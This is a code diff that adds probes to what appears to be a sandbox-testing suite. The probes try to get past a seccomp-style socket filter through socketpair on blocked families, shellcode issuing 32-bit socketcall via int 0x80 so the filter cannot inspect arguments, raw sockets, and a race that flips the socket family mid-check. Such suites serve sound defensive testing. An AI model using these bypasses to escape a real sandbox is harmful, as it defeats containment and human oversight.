@@ -211,6 +211,15 @@ def family(number, kinds=(1, 2, 3, 5)):
     return worked(*[call(41, number + high, kind, 0) for kind in kinds for high in (0, 1 << 32)])
 
 
+# VSOCK, ALG, RDS, TIPC, RXRPC, and old ones.
+REFUSED = (40, 38, 21, 30, 33, 3, 4, 5, 6, 9, 11, 12, 20, 23, 26, 34, 35, 36, 37, 39, 41, 42)
+
+
+def effective():
+    with open("/proc/self/status") as file:
+        return int(next(line for line in file if line.startswith("CapEff:")).split()[1], 16)
+
+
 @attack
 def socket_af_vsock():
     pair = ctypes.create_string_buffer(8)
@@ -240,6 +249,84 @@ def socket_af_rxrpc():
 @attack
 def sockets_of_old_families():
     return any(family(n) for n in (3, 4, 5, 6, 8, 9, 11, 12, 20, 23, 26, 27, 34, 35, 36, 37, 39, 41, 42, 45, 46))
+
+
+def families_of_pairs():
+    """Whether a pair's family is judged: TIPC makes pairs, and any family's module may come for the question."""
+    pair = ctypes.create_string_buffer(8)
+    return worked(*[call(53, n + high, 1, 0, pair) for n in REFUSED for high in (0, 1 << 32)])
+
+
+@attack
+def socketpair_of_refused_families():
+    return families_of_pairs()
+
+
+class Old:
+    """Calls as 32-bit programs make them, `int 0x80`, with an array of arguments below 4 GiB."""
+
+    def __init__(self):
+        LIBC.mmap.restype = ctypes.c_void_p
+        private_anonymous_low = 0x02 | 0x20 | 0x40
+        self.page = LIBC.mmap(None, ctypes.c_size_t(4096), 7, private_anonymous_low, -1, ctypes.c_long(0))
+        # push rbx; mov eax, edi; mov ebx, esi; mov ecx, edx; xor edx, edx; int 0x80; pop rbx; ret
+        code = bytes.fromhex("5389f889f389d131d2cd805bc3")
+        ctypes.memmove(self.page + 2048, code, len(code))
+        self.enter = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(self.page + 2048)
+
+    def socketcall(self, which, *arguments):
+        words = struct.pack(f"={len(arguments)}I", *arguments)
+        ctypes.memmove(self.page, words, len(words))
+        return self.enter(102, which, self.page)
+
+    def socket(self, family, kind, protocol=0):
+        return self.socketcall(1, family, kind, protocol)
+
+    def pair(self, family, kind):
+        got = self.socketcall(8, family, kind, 0, self.page + 1024)
+        return got, struct.unpack("=2i", ctypes.string_at(self.page + 1024, 8))
+
+
+@attack
+def socketcall_of_refused_families():
+    """The arguments lie in memory, where a filter cannot look."""
+    def does():
+        old = Old()
+        return worked(*[old.socket(n, kind) for n in REFUSED for kind in (1, 2, 3, 5)], *[old.pair(n, 1)[0] for n in REFUSED])
+    return in_child(does)
+
+
+@attack
+def socketcall_raw():
+    """Frames and headers of one's own, for who has no power over the network."""
+    if effective() & (1 << 13):
+        return False
+    return in_child(lambda: done(Old().socket(17, 3, 0x300), Old().socket(17, 2, 0x300), Old().socket(2, 3, 255), Old().socket(2, 3, 1), Old().socket(10, 3, 58)))
+
+
+@attack
+def socketcall_race():
+    """Another thread changes the family while it is judged."""
+    def does():
+        import threading
+        old, stop, won = Old(), threading.Event(), []
+        def flip():
+            cell = ctypes.c_uint32.from_address(old.page)
+            while not stop.is_set():
+                cell.value = 38
+                cell.value = 1
+        thread = threading.Thread(target=flip)
+        thread.start()
+        for _ in range(300):
+            got = old.socket(1, 5)
+            if got >= 0:
+                made = socket.socket(fileno=got)
+                won.append(made.family not in (1,))
+                made.close()
+        stop.set()
+        thread.join()
+        return any(won)
+    return in_child(does)
 
 
 @attack
